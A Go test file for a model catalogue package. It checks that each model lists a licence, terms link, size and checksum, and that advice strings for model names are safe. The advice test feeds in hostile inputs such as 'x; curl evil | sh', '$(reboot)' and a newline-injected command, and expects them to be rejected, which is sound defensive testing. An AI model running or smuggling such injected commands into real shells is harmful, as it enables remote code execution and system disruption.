package wellknown_test

import (
	"regexp"
	"strings"
	"testing"

	"github.com/keyhole-dev/keyhole/services/workflow/wellknown"
)

// Every model names its licence, and its file by size and sum.
func TestModelsNameTheirLicence(t *testing.T) {
	t.Parallel()
	all, err := wellknown.Models()
	if err != nil || len(all) == 0 {
		t.Fatalf("%d models, %v", len(all), err)
	}
	for _, m := range all {
		if m.Licence == "" || !strings.HasPrefix(m.Terms, "https://") || m.Title == "" || m.Task == "" || m.Bytes == 0 || !regexp.MustCompile(`^[0-9a-f]{64}$`).MatchString(m.SHA256) {
			t.Errorf("%+v is not complete", m)
		}
		if (m.NPM == "") == !strings.HasPrefix(m.URL, "https://") {
			t.Errorf("%s has no single origin", m.Name)
		}
	}
}

func TestAdvice(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]string{
		"yolov8n-640":         "keyhole model import yolov8n-640",
		"coco/3":              "keyhole model import yolov8n-640", // the same model
		"yolo-nas-l-640":      "keyhole model alias create yolo-nas-l-640 MODEL",
		"team/cars/2":         "keyhole model alias create team/cars/2 MODEL",
		"x; curl evil | sh":   "name one of the models",
		"$(reboot)":           "name one of the models",
		"--help":              "name one of the models",
		"a/b/c/d":             "name one of the models",
		"":                    "name one of the models",
		"x\nkeyhole key list": "name one of the models",
	} {
		if got := wellknown.Advice(name); !strings.Contains(got, want) {
			t.Errorf("%q: %s", name, got)
		}
		if got := wellknown.Advice(name); strings.Contains(got, "\n") {
			t.Errorf("%q: a line break in %q", name, got)
		}
	}
}
